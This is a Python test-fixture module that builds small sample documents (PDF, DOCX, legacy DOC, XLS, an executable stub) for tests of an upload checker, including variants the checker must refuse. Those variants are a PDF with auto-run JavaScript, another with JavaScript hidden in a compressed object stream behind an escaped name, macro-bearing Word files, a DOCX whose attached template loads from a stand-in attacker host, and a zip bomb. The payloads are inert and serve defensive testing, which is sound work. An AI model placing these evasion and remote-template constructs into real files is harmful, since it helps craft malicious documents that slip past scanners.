"""Small sample documents, built from scratch, for the demo data and the tests of the upload check:
a plain PDF, a DOCX, a legacy Word DOC (an OLE2 compound file), and the variants the check must
refuse (JavaScript in a PDF, macros in a Word file …). No real document is ever needed."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

# ---- PDF ------------------------------------------------------------------------------------------


def pdf(text: str = "Proof document", *, extra_objects: list[bytes] | None = None, catalog_extra: bytes = b"") -> bytes:
    """A valid one-page PDF with a line of text; extra objects and catalog entries for variants."""
    stream = f"BT /F1 18 Tf 72 720 Td ({_pdf_escape(text)}) Tj ET".encode("latin-1", "replace")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(extra_objects or []),
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _pdf_escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf_with_javascript() -> bytes:
    return pdf(
        catalog_extra=b"/OpenAction 6 0 R ",
        extra_objects=[b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>"],
    )


def pdf_with_hidden_javascript() -> bytes:
    """JavaScript inside a compressed object stream, behind a #-escaped name."""
    hidden = b"<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(b"7 0 " + hidden)
    object_stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream"
    )
    return pdf(catalog_extra=b"/OpenAction 7 0 R ", extra_objects=[object_stream])


# ---- DOCX -------------------------------------------------------------------------------------------

_DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
)
_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)


def _document_xml(text: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )


def docx(
    text: str = "Proof document",
    *,
    macros: bool = False,
    macro_content_type: bool = False,
    external_template: bool = False,
) -> bytes:
    out = io.BytesIO()
    main = _DOCM_MAIN if macro_content_type else _DOCX_MAIN
    extra = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macros else ""
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _DOCX_TYPES.format(main=main, extra=extra))
        package.writestr("_rels/.rels", _ROOT_RELS)
        package.writestr("word/document.xml", _document_xml(text))
        if macros:
            package.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 60)
        if external_template:
            package.writestr(
                "word/_rels/settings.xml.rels",
                '<?xml version="1.0" encoding="UTF-8"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>',
            )
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("readme.txt", "not a document")
    return out.getvalue()


def zip_bomb(entries: int = 1500) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _DOCX_TYPES.format(main=_DOCX_MAIN, extra=""))
        package.writestr("word/document.xml", _document_xml("x"))
        for index in range(entries):
            package.writestr(f"word/media/{index}.bin", b"")
    return out.getvalue()


# ---- DOC (OLE2 compound file, version 3) ----------------------------------------------------------

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512
_MINI_CUTOFF = 4096


def ole(streams: dict[str, bytes]) -> bytes:
    """A compound file holding `streams` ({"WordDocument": b"…", "Macros/VBA/dir": b"…"}).

    Streams are padded to the mini-stream cutoff so they live in regular sectors (no mini FAT).
    """
    # directory: root, then storages and streams; children of a storage chained by right sibling
    entries = [{"name": "Root Entry", "type": 5, "children": []}]
    index_of = {"": 0}
    for path in sorted(streams):
        parts = path.split("/")
        for depth in range(1, len(parts)):
            storage = "/".join(parts[:depth])
            if storage not in index_of:
                index_of[storage] = len(entries)
                entries.append({"name": parts[depth - 1], "type": 1, "children": []})
                entries[index_of["/".join(parts[: depth - 1])]]["children"].append(index_of[storage])
        index_of[path] = len(entries)
        data = streams[path].ljust(_MINI_CUTOFF, b"\0")
        entries.append({"name": parts[-1], "type": 2, "children": [], "data": data})
        entries[index_of["/".join(parts[:-1])]]["children"].append(index_of[path])
    directory_sectors = (len(entries) * 128 + _SECTOR - 1) // _SECTOR
    data_sectors = sum(len(e["data"]) // _SECTOR for e in entries if "data" in e)
    fat = [_FATSECT]
    next_sector = 1
    directory_start = next_sector
    for i in range(directory_sectors):
        fat.append(next_sector + 1 if i < directory_sectors - 1 else _END)
        next_sector += 1
    body = b""
    for entry in entries:
        if "data" in entry:
            count = len(entry["data"]) // _SECTOR
            entry["start"] = next_sector
            for i in range(count):
                fat.append(next_sector + 1 if i < count - 1 else _END)
                next_sector += 1
            body += entry["data"]
    if len(fat) > _SECTOR // 4:
        raise ValueError("sample too large for one FAT sector")
    if 1 + directory_sectors + data_sectors != len(fat):
        raise AssertionError("FAT accounting")
    fat += [_FREE] * (_SECTOR // 4 - len(fat))

    raw_entries = b""
    for entry in entries:
        children = entry["children"]
        for position, child in enumerate(children):
            entries[child]["right"] = children[position + 1] if position + 1 < len(children) else _NOSTREAM
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        raw_entries += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name.ljust(64, b"\0"),
            len(name),
            entry["type"],
            1,
            _NOSTREAM,
            entry.get("right", _NOSTREAM),
            children[0] if children else _NOSTREAM,
            b"\0" * 16,
            0,
            0,
            0,
            entry.get("start", _END if entry["type"] == 5 else 0),
            len(entry.get("data", b"")),
        )
    raw_entries = raw_entries.ljust(directory_sectors * _SECTOR, b"\0")
    empty = struct.pack(
        "<64sHBBIII16sIQQIQ", b"\0" * 64, 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"\0" * 16, 0, 0, 0, 0, 0
    )
    # unused slots in the last directory sector must be empty entries with NOSTREAM links
    used = len(entries) * 128
    raw_entries = raw_entries[:used] + empty * ((len(raw_entries) - used) // 128)

    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\0" * 16,
        0x003E,
        0x0003,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,
        1,
        directory_start,
        0,
        _MINI_CUTOFF,
        _END,
        0,
        _END,
        0,
    )
    header += struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108
    return header + struct.pack(f"<{_SECTOR // 4}I", *fat) + raw_entries + body


def doc(text: str = "Proof document", *, macros: bool = False) -> bytes:
    streams = {"WordDocument": b"\xec\xa5" + text.encode("utf-16-le"), "1Table": b"\0" * 16}
    if macros:
        streams["Macros/VBA/dir"] = b"\x01" * 32
        streams["Macros/PROJECT"] = b'ID="{00000000-0000-0000-0000-000000000000}"'
    return ole(streams)


def xls() -> bytes:
    return ole({"Workbook": b"\x09\x08" + b"\0" * 14})


def executable() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\0" * 200
        + b"This program cannot be run in DOS mode"
    )
